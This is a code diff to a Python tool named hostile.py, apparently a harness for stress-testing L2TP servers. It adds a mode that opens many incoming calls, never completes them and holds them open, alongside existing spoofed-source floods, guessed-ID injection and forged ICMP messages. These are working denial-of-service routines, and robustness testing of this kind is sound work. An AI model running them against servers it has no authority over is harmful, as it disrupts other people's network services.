@@ -6,6 +6,9 @@ hostile.py list                        names of all classes
 hostile.py send CLASS [OPTION...]      sends one class
 hostile.py sccrq-flood COUNT PREFIX    SCCRQ, each from another source of PREFIX (a.b)
 hostile.py hello-flood COUNT           Hello and ZLB to the tunnel, Ns and Nr guessed
+hostile.py icrq COUNT                  a LAC without a secret: so many ICRQ, and never an ICCN;
+                                       says how many were accepted, then waits for the end of
+                                       its standard input, and hangs up
 hostile.py frag-needed MTU             ICMP 3/4 that quotes data to --tunnel and --session
 hostile.py guess COUNT                 data with guessed tunnel and session IDs
 
@@ -17,6 +20,7 @@ import argparse
 import random
 import socket
 import struct
+import sys
 import time
 
 rnd = random.Random(20240)
@@ -424,6 +428,44 @@ def flood(sock, a, count, make):
             time.sleep(max(0, begin + n / a.rate - time.monotonic()))
 
 
+def incomplete_calls(a, count):
+    """By the rules, as far as it goes."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind((a.source, 0))
+    sock.connect((a.server, 1701))
+    sock.settimeout(5)
+    tunnel, ns, nr = 0, 0, 0
+
+    def ask(body):
+        nonlocal ns, nr
+        sock.send(body)
+        ns += 1
+        while True:
+            answer = sock.recv(2048)
+            if len(answer) > 12 and struct.unpack("!H", answer[8:10])[0] == nr:
+                nr += 1
+                return answer[12:]
+
+    def value(body, kind):
+        while body:
+            word, vendor, found = struct.unpack("!HHH", body[:6])
+            if (vendor, found) == (0, kind):
+                return struct.unpack("!H", body[6:8])[0]
+            body = body[word & 0x3FF:]
+
+    tunnel = value(ask(sccrq()), 9)
+    sock.send(message(3, tunnel=tunnel, ns=ns, nr=nr))
+    ns += 1
+    results = []
+    for n in range(count):
+        body = ask(message(10, avp(14, u16(n + 1)), avp(15, u32(n)), tunnel=tunnel, ns=ns, nr=nr))
+        results.append(0 if value(body, 0) == 11 else value(body, 1))
+    sock.send(control(b"", tunnel=tunnel, ns=ns, nr=nr))
+    print("accepted %d, CDN %s" % (results.count(0), sorted(set(results) - {0})), flush=True)
+    sys.stdin.read()
+    sock.send(message(4, avp(9, u16(1)), avp(1, u16(1)), tunnel=tunnel, ns=ns, nr=nr))
+
+
 def main():
     p = argparse.ArgumentParser()
     p.add_argument("what")
@@ -438,6 +480,9 @@ def main():
     a = p.parse_args()
     if a.what == "list":
         print("\n".join(CLASSES))
+        return
+    if a.what == "icrq":
+        incomplete_calls(a, int(a.arguments[0]))
         return
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     if a.what == "send":
